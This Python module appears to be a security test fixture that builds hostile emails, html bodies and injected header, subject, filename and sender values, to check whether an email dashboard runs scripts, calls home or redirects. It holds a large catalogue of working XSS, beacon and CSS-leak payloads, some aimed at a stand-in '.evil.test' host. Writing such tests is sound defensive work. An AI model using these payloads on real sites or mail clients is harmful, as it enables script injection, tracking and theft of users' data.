"""Hostile emails: what somebody would send to run code in the dashboard, to call home from it or to lead it elsewhere.

A case is html (`html`), or a text (`text`) in a place that the dashboard shows on its own pages (`place`). In both,

    %JS%      code that reports itself on the console and to the listener; it has no blank, double quote or angle bracket
    %URL%     an address of the listener that names the case
    %HOST%    a host name that names the case and does not exist
    %DATA%    a page with %JS% in a script, as base64
    %SVG%     a picture with %JS% in a script, as base64

`click` is what a person is lured to click. `inert` says why today's Chromium does nothing with it even on a page
without any protection; every other case has to fire there, or it proves nothing.
"""

import base64
import dataclasses
import json
from email import policy
from email.message import EmailMessage
from email.utils import formataddr

MARK = "PWNED:"
SENDER = "no-reply@posthaste.test"


@dataclasses.dataclass(frozen=True)
class Case:
    name: str
    html: str = ""
    place: str = ""
    text: str = ""
    click: str = ""
    inert: str = ""
    # How the html travels in an .eml, where that is the trick.
    charset: str = "utf-8"
    encoding: str = ""

    def filled(self, template, trap):
        script = (
            f"console.error('{MARK}{self.name}'),(new/**/Image).src='{trap}/{self.name}/script'"
        )
        page = f"<!doctype html><script>{script}</script>"
        picture = f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>{script}</script></svg>'
        for token, value in [
            ("%DATA%", base64.b64encode(page.encode()).decode()),
            ("%SVG%", base64.b64encode(picture.encode()).decode()),
            ("%JS%", script),
            ("%URL%", f"{trap}/{self.name}"),
            ("%HOST%", f"{self.name}.evil.test"),
        ]:
            template = template.replace(token, value)
        return template

    def body(self, trap):
        return self.filled(self.html, trap) if self.html else f"<p>The trap of {self.name} is elsewhere.</p>"

    def words(self, trap):
        return self.filled(self.text, trap)

    def bait(self, trap):
        """What a page without any protection would show."""
        words = self.words(trap)
        return self.body(trap) if self.html else f'<!doctype html><title>x</title><p title="{words}">{words}</p>'


def html(name, html, **more):
    return Case(name, html=html, **more)


def shown(name, place, text, **more):
    return Case(name, place=place, text=text, **more)


BREAKOUT = '"><img src=x:x onerror=%JS%>'

CASES = [
    # Scripts.
    html("script", "<p>Hello</p><script>%JS%</script>"),
    html("script-src", '<script src="%URL%/script.js"></script>'),
    html("script-module", "<script type=module>%JS%</script>"),
    html("script-odd-case", "<ScRiPt/x=1>%JS%</sCrIpT\n>"),
    html("script-in-svg", "<svg><script>%JS%</script></svg>"),
    html("script-data-url", '<svg><script href="data:text/javascript,%JS%"></script></svg>'),
    html("script-after-quirk", "<!doctype><table><script>%JS%</script></table>"),
    html("script-in-shadow", "<div><template shadowrootmode=open><script>%JS%</script></template></div>"),
    html("import-map", '<script type=importmap>{"imports":{"a":"%URL%/map.js"}}</script>'
                       "<script type=module>import 'a'</script>"),
    # Event handlers.
    html("img-onerror", '<img src="x:x" onerror="%JS%">'),
    html("img-onerror-no-blank", '<img/src="x:x"/onerror=%JS%>'),
    html("svg-onload", '<svg onload="%JS%"></svg>'),
    html("body-onload", '<body onload="%JS%"><p>Hello</p></body>'),
    html("details-ontoggle", '<details open ontoggle="%JS%"><summary>More</summary></details>'),
    html("autofocus-onfocus", '<input autofocus onfocus="%JS%">'),
    html("source-onerror", '<video><source onerror="%JS%" src="x:x"></video>'),
    html("animation", '<style>@keyframes a{from{top:0}}</style>'
                      '<p style="animation:a 1s" onanimationstart="%JS%">x</p>'),
    html("iframe-onload", '<iframe onload="%JS%"></iframe>'),
    html("style-onload", '<style onload="%JS%">p{color:red}</style>'),
    html("onclick", '<a href="#" onclick="%JS%">Confirm</a>', click="a"),
    html("popover-toggle", '<button popovertarget=p>Open</button><div popover id=p onbeforetoggle="%JS%">x</div>',
         click="button"),
    # Addresses that are code.
    html("a-javascript", '<a href="javascript:%JS%">Confirm</a>', click="a"),
    html("a-javascript-hidden", '<a href=" &#106;ava&Tab;scr&NewLine;ipt&colon;%JS%">Confirm</a>', click="a"),
    html("form-javascript", '<form action="javascript:%JS%"><button>Confirm</button></form>', click="button"),
    html("formaction", '<form><button formaction="javascript:%JS%">Confirm</button></form>', click="button"),
    html("svg-a-xlink", '<svg width=90 height=40><a xlink:href="javascript:%JS%"><text y=25>Confirm</text></a></svg>',
         click="text"),
    html("svg-animate-href", '<svg width=90 height=40><a><animate attributeName=href values="javascript:%JS%" />'
                             "<text y=25>Confirm</text></a></svg>",
         click="text"),
    html("math-href", '<math><mi href="javascript:%JS%" xlink:href="javascript:%JS%">Confirm</mi></math>', click="mi",
         inert="only Firefox made links of MathML"),
    html("area-javascript", '<img usemap="#m" width=90 height=40 alt=x src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">'
                            '<map name=m><area shape=rect coords=0,0,90,40 href="javascript:%JS%"></map>', click="img"),
    html("iframe-javascript", '<iframe src="javascript:%JS%"></iframe>'),
    html("iframe-data", '<iframe src="data:text/html;base64,%DATA%"></iframe>'),
    html("iframe-srcdoc", '<iframe srcdoc="<img src=x:x onerror=%JS%>"></iframe>'),
    html("object-data", '<object data="data:text/html;base64,%DATA%"></object>'),
    html("embed-svg", '<embed src="data:image/svg+xml;base64,%SVG%">'),
    html("frameset", '<frameset onload="%JS%"><frame src="javascript:%JS%"></frameset>'),
    # Leading elsewhere.
    html("meta-refresh", '<meta http-equiv=refresh content="0;url=%URL%/refresh">'),
    html("meta-refresh-late", '<meta http-equiv=refresh content="0.1;url=\'%URL%/refresh\'">'),
    html("a-top", '<a href="%URL%/top" target=_top>Confirm</a>', click="a"),
    html("a-self", '<a href="%URL%/self">Confirm</a>', click="a"),
    html("a-opener", '<a href="%URL%/opener" target=_blank rel=opener>Confirm</a>', click="a"),
    html("a-ping", '<a href="#x" ping="%URL%/ping">Confirm</a>', click="a"),
    html("form-autosubmit", '<form action="%URL%/form" method=post><input name=a value=b></form>'
                            "<script>document.forms[0].submit()</script>"),
    html("form-top", '<form action="%URL%/form" target=_top><button>Confirm</button></form>', click="button"),
    html("base", '<base href="%URL%/base/" target=_top><img src=pixel.png>'),
    # Calling home.
    html("img", '<img src="%URL%/pixel.png" width=1 height=1>'),
    html("img-srcset", '<img srcset="%URL%/one.png 1x, %URL%/two.png 2x">'),
    html("picture", '<picture><source srcset="%URL%/picture.png"><img></picture>'),
    html("input-image", '<input type=image src="%URL%/input.png">'),
    html("video", '<video poster="%URL%/poster.png" src="%URL%/video.mp4" preload=auto autoplay muted></video>'),
    html("audio-track", '<video controls><track default src="%URL%/track.vtt"></video>'
                        '<audio src="%URL%/audio.mp3" preload=auto></audio>'),
    html("body-background", '<body background="%URL%/body.png"><table background="%URL%/table.png"><tr><td>x</table>'),
    html("css-inline", '<p style="background:url(%URL%/css.png);list-style:url(%URL%/list.png)">x</p>'),
    html("css-import", '<style>@import "%URL%/import.css";</style>'),
    html("css-font", "<style>@font-face{font-family:f;src:url(%URL%/font.woff2)}p{font-family:f}</style><p>x</p>"),
    html("css-image-set", "<style>p::before{content:image-set('%URL%/set.png' 1x)}</style><p>x</p>"),
    html("css-attribute-leak", '<style>input[value^="s"]{background:url(%URL%/s)}</style><input value=secret>'),
    html("css-expression", '<p style="width:expression(%JS%);behavior:url(%URL%/htc);-moz-binding:url(%URL%/xbl)">x</p>',
         inert="of Internet Explorer and old Firefox"),
    html("link-stylesheet", '<link rel=stylesheet href="%URL%/style.css">'),
    html("link-prefetch", '<link rel=prefetch href="%URL%/prefetch">'),
    html("link-preload", '<link rel=preload as=image href="%URL%/preload.png"><link rel=preload as=fetch href="%URL%/f">'),
    html("link-modulepreload", '<link rel=modulepreload href="%URL%/module.js">'),
    html("link-icon", '<link rel=icon href="%URL%/icon.png"><link rel=manifest href="%URL%/manifest">'),
    html("link-preconnect", '<link rel=preconnect href="http://%HOST%/"><p>x</p>'),
    html("link-in-srcdoc", '<iframe srcdoc="&lt;link rel=preconnect href=http://%HOST%/&gt;"></iframe>'),
    html("link-dns-prefetch", '<link rel=dns-prefetch href="//%HOST%"><p>x</p>'),
    html("a-dns-prefetch", '<meta http-equiv=x-dns-prefetch-control content=on><a href="http://%HOST%/">Confirm</a>',
         inert="Chromium does no longer look up the names of links ahead of time"),
    html("speculation-rules", '<script type=speculationrules>{"prefetch":[{"urls":["%URL%/spec"]}]}</script>',
         inert="not between these origins"),
    html("iframe-src", '<iframe src="%URL%/frame"></iframe>'),
    html("frame-src", '<frameset cols="*"><frame src="%URL%/frame"></frameset>'),
    html("object-src", '<object data="%URL%/object"></object><embed src="%URL%/embed">'),
    html("svg-image", '<svg><image href="%URL%/svg.png" width=9 height=9 /></svg>'),
    html("svg-feimage", '<svg><filter id=f><feImage href="%URL%/fe.png"/></filter>'
                        '<rect width=9 height=9 filter="url(#f)"/></svg>'),
    html("csp-of-its-own", '<meta http-equiv=Content-Security-Policy content="default-src * \'unsafe-inline\'">'
                           '<img src="%URL%/csp.png"><script>%JS%</script>'),
    # Markup that is read in another way than it looks.
    html("svg-style", '<svg><style><img src="x:x" onerror="%JS%"></style></svg>'),
    html("math-annotation", '<math><annotation-xml encoding="text/html"><img src="x:x" onerror="%JS%">'
                            "</annotation-xml></math>"),
    html("noscript", '<noscript><p title="</noscript><img src=x:x onerror=%JS%>">'),
    html("title", '<title><a title="</title><img src=x:x onerror=%JS%>">'),
    html("textarea", '<textarea><a title="</textarea><img src=x:x onerror=%JS%>">'),
    html("comment", '<!--><img src="x:x" onerror="%JS%">-->'),
    html("comment-bang", '<!-- a --!><img src="x:x" onerror="%JS%"> -->'),
    html("cdata", '<svg><![CDATA[</svg>]]></svg><![CDATA[><img src="x:x" onerror="%JS%">]]>'),
    html("conditional-comment", '<!--[if !mso]><!--><img src="x:x" onerror="%JS%"><!--<![endif]-->'),
    html("broken-attributes", '<img """><img src="x:x"onerror="%JS%"">'),
    html("foster-parent", '<table><tr><td></td><img src="x:x" onerror="%JS%"></tr></table>'),
    html("deep", "<div>" * 600 + '<img src="x:x" onerror="%JS%">'),
    html("template-clone", "<p>x</p><template><img src=x:x onerror=%JS%></template>"
                           "<script>document.body.append(document.querySelector('template').content)</script>"),
    # How it is written down.
    html("utf-7", "<meta charset=utf-7>+ADw-img src=x:x onerror=%JS%+AD4-", inert="browsers gave up UTF-7"),
    html("nul", "<img src=x:x on\0error=%JS%><scr\0ipt>%JS%</scr\0ipt>", inert="a NUL does not vanish any more"),
    html("iso-2022-jp", "<meta charset=iso-2022-jp><a title='\x1b$@' href='\x1b(B><img src=x:x onerror=%JS%>'>x</a>",
         inert="the charset of the answer wins"),
    html("utf-16", '<p>x</p><img src="x:x" onerror="%JS%">', charset="utf-16"),
    html("base64", '<p>x</p><img src="x:x" onerror="%JS%">', encoding="base64"),
    # Texts that the dashboard shows on pages of its own.
    shown("subject-script", "subject", "<script>%JS%</script>"),
    shown("subject-breakout", "subject", BREAKOUT),
    shown("sender-name", "from", BREAKOUT),
    shown("reply-name", "reply", BREAKOUT),
    shown("entity-id", "entity", BREAKOUT),
    shown("entity-name", "entity-name", "<script>%JS%</script>"),
    shown("external-id", "external", BREAKOUT),
    shown("file-name", "file", BREAKOUT),
    shown("header-value", "header", "</pre>" + BREAKOUT),
    shown("text-part", "text", "</pre></textarea>" + BREAKOUT),
    shown("error-text", "error", "5.7.1 " + BREAKOUT),
    shown("suppression-reason", "suppression", BREAKOUT),
    shown("company-name", "company", BREAKOUT),
    shown("key-label", "key", BREAKOUT),
]


def subject(case, trap):
    # A subject has at most 150 characters; code that calls home has more.
    short = case.text.replace("%JS%", f"console.error('{MARK}{case.name}')")
    return case.filled(short, trap) if case.place == "subject" else f"Hostile: {case.name}"


def short_words(case, trap):
    return case.filled(case.text.replace("%JS%", f"console.error('{MARK}{case.name}')"), trap)


def as_json(case, trap):
    """The body of POST /v1/email/send."""
    words = short_words(case, trap)
    body = {
        "to": f"{case.name}+json@example.com",
        "from": SENDER,
        "subject": subject(case, trap),
        "html": case.body(trap),
        "text": case.words(trap) if case.place == "text" else f"Text of {case.name}",
    }
    if case.place == "from":
        body["from"] = formataddr((words, SENDER))
    if case.place == "reply":
        body["replyTo"] = formataddr((words, SENDER))
    if case.place == "entity":
        body["entity"] = {"id": words}
    if case.place == "entity-name":
        body["entity"] = {"id": "order-7", "name": words}
    if case.place == "external":
        body["externalId"] = words
    if case.place == "header":
        body["headers"] = {"X-Hostile": words}
    if case.place == "file":
        content = base64.b64encode(b"x").decode()
        body["attachments"] = [{"filename": words, "contentType": "text/plain", "content": content}]
    if case.place == "error":
        body["to"] = "error-text@refused.test"
        body["provider"] = "relay"
    return json.dumps(body).encode()


def as_eml(case, trap):
    """The body of POST /v1/email/raw. Written by hand where Python's library would be too polite."""
    words = short_words(case, trap)
    message = EmailMessage(policy=policy.SMTP)
    message["From"] = formataddr((words if case.place == "from" else "Sender", SENDER))
    message["To"] = f"{case.name}+raw@example.com"
    message["Subject"] = subject(case, trap)
    message["Date"] = "Mon, 16 Nov 2026 08:00:00 +0000"
    if case.place == "reply":
        message["Reply-To"] = formataddr((words, SENDER))
    if case.place == "header":
        message["X-Hostile"] = words
    message.set_content(case.words(trap) if case.place == "text" else f"Text of {case.name}")
    body = case.body(trap)
    if "\0" in body:
        message.add_alternative("PLACE-OF-THE-HTML", subtype="html")
        return message.as_bytes().replace(b"PLACE-OF-THE-HTML", body.encode())
    if case.charset != "utf-8" or case.encoding:
        message.add_alternative(body.encode(case.charset), "text", "html", cte="base64")
        message.get_payload()[-1].set_param("charset", case.charset)
        del message.get_payload()[-1]["Content-Disposition"]
        return message.as_bytes()
    message.add_alternative(body, subtype="html", cte="quoted-printable")
    if case.place == "file":
        message.add_attachment(b"x", maintype="text", subtype="plain", filename=words)
    return message.as_bytes()


def check():
    names = [case.name for case in CASES]
    assert len(names) == len(set(names)), "names tell cases apart"
    assert len(names) >= 60, "sixty at least"
    assert sum(1 for case in CASES if case.inert) <= len(CASES) // 8, "most of them have to be able to fire"
